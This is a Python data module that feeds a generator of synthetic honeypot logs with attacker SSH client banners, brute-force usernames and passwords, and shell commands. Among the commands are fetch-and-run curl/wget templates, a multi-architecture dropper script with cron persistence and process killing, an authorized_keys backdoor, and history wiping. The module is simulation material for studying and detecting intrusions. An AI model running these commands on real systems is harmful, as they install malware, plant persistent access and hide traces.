"""What the attackers of a generated log say: clients, credentials, commands, files. Data only.

Addresses and host names are from the ranges that are reserved for documentation, so that nothing here leads anywhere.
"""

from typing import NamedTuple

DROP_HOSTS = ("198.51.100.23", "203.0.113.77", "192.0.2.200", "[2001:db8::bad]", "files.example.net", "cdn.example.org")
DROP_FILES = (
    "x.sh",
    "bins.sh",
    "a",
    "mirai.arm7",
    "mirai.mips",
    "wget.sh",
    "sshd",
    "redtail.x86_64",
    "w.sh",
    "tftp1.sh",
)
ARCHITECTURES = ("linux-x64-lsb", "linux-x64-lsb", "linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb")
UPLOADS = ("payload.sh", "sshd", "redtail.arm7", "clean.sh", "setup.sh", ".x/kswapd0", "xmrig", "config.json")
TUNNEL_TARGETS = (
    ("www.example.com", 443),
    ("api.example.net", 80),
    ("203.0.113.80", 25),
    ("ip.example.org", 80),
    ("2001:db8::80", 443),
)


class Client(NamedTuple):
    """An SSH client: its banner and the algorithms that it offers."""

    version: str
    kex: tuple[str, ...]
    keys: tuple[str, ...]
    ciphers: tuple[str, ...]
    macs: tuple[str, ...]
    compression: tuple[str, ...] = ("none",)


_ETM = ("hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com")
_CURVES = ("curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256")
_GROUPS = ("diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1")
_CTR = ("aes128-ctr", "aes192-ctr", "aes256-ctr")
_RSA = ("rsa-sha2-256", "rsa-sha2-512", "ssh-rsa")

CLIENTS = (
    Client(
        "SSH-2.0-Go",
        (*_CURVES, _GROUPS[0]),
        (*_RSA, "ssh-ed25519"),
        ("aes128-gcm@openssh.com", *_CTR),
        (_ETM[0], "hmac-sha2-256"),
    ),
    Client(
        "SSH-2.0-libssh2_1.10.0", (*_CURVES, *_GROUPS), _RSA, _CTR, ("hmac-sha2-256", "hmac-sha1"), ("none", "zlib")
    ),
    Client("SSH-2.0-libssh_0.9.6", _CURVES, ("ssh-ed25519", *_RSA), ("chacha20-poly1305@openssh.com", *_CTR), _ETM),
    Client("SSH-2.0-PUTTY", (_CURVES[1], *_GROUPS), ("ssh-rsa", "ssh-dss"), _CTR[::-1], ("hmac-sha2-256", "hmac-md5")),
    Client("SSH-2.0-paramiko_3.4.0", (*_CURVES, _GROUPS[0]), ("ssh-ed25519", *_RSA), _CTR, ("hmac-sha2-256", *_ETM)),
    Client(
        "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13",
        (*_CURVES, _GROUPS[0]),
        ("ssh-ed25519",),
        ("chacha20-poly1305@openssh.com", *_CTR),
        _ETM,
    ),
    Client("SSH-2.0-ZGrab ZGrab SSH Survey", _CURVES[:2], ("ssh-ed25519",), _CTR, ("hmac-sha2-256",)),
)
SCANNER_BANNERS = ("GET / HTTP/1.0", "SSH-2.0-masscan", "SSH-2.0-ZGrab ZGrab SSH Survey", "\\x16\\x03\\x01\\x02")

USERNAMES = (
    "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git", "ftpuser", "support", "guest",
    "deploy", "hadoop", "mysql", "jenkins", "ec2-user", "minecraft", "www-data", "solana", "nagios", "usér",
    "345gs5662d34",
)  # fmt: skip
PASSWORDS = (
    "123456", "admin", "password", "root", "1234", "12345678", "", "Passw0rd!", "qwerty", "P@ssw0rd", "raspberry",
    "toor", "1qaz2wsx", "abc123", "vizxv", "xc3511", "changeme", "postgres", "oracle", "Huawei@123", "!QAZ2wsx",
    "пароль", "' OR 1=1 --", "3245gs5662d34", "<script>alert(1)</script>", "a\\b\"c", "calvin", "7ujMko0admin",
)  # fmt: skip

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC" + "kH3vTzq0nWm7LxRbYc5sGd9fJp2aUeXo4iQhVt8r" * 8 + "Zw== mdrfckr"
"""An authorized key in form only: its body is no key."""

COMMANDS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "whoami",
    "id",
    "nproc",
    "top",
    "uname",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}" >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
    "history -c; unset HISTFILE; export HISTFILESIZE=0",
    "cat /etc/passwd; echo 'done' > /dev/null",
    'echo -e "admin\\nq7Zk2mVd\\nq7Zk2mVd"|passwd|bash',
    "ps aux | grep -v grep | grep -i '[Mm]iner'",
    "/ip cloud print",
    "ifconfig; ip a; netstat -tulpn",
)
FETCHES = (
    "cd /tmp || cd /var/run || cd /mnt; wget {url}; chmod 777 {file}; sh {file}; rm -rf {file}",
    "curl -s {url} | sh",
    "wget -qO- {url} | bash > /dev/null 2>&1 &",
    "cd /tmp; curl -O {url}; chmod +x {file}; ./{file} ssh.{tag}",
)
TELNET_COMMANDS = (
    "enable", "system", "shell", "sh", "linuxshell", "/bin/busybox {tag}", "cat /proc/mounts; /bin/busybox {tag}",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {tag}", "tftp; wget; /bin/busybox {tag}",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "rm .s; exit",
)  # fmt: skip
UNKNOWN_COMMANDS = frozenset({"enable", "system", "shell", "linuxshell", "/ip cloud print"})
"""What the honeypot's shell doesn't know: it logs these a second time, as failed."""

LONG_SCRIPT_LINES = (
    "#!/bin/sh",
    "# {tag}",
    "for d in /tmp /var/run /mnt /root /dev/shm; do if [ -w $d ]; then cd $d; break; fi; done",
    "for p in $(ls /proc | grep -E '^[0-9]+$'); do",
    "  l=$(readlink /proc/$p/exe); case $l in *deleted*) kill -9 $p;; esac; done",
    "for a in x86_64 i686 arm5 arm6 arm7 mips mpsl sh4 ppc; do",
    "  wget -q {url}.$a -O .{tag} || curl -s {url}.$a -o .{tag};",
    "  chmod 777 .{tag}; ./.{tag} $a; rm -f .{tag}; done",
    "if ! crontab -l | grep -q '{tag}'; then",
    "  (crontab -l; echo '*/5 * * * * curl -s {url} | sh # {tag}') | crontab -; fi",
    "iptables -A INPUT -p tcp --dport 23 -j DROP; iptables -A INPUT -p tcp --dport 2323 -j DROP",
)
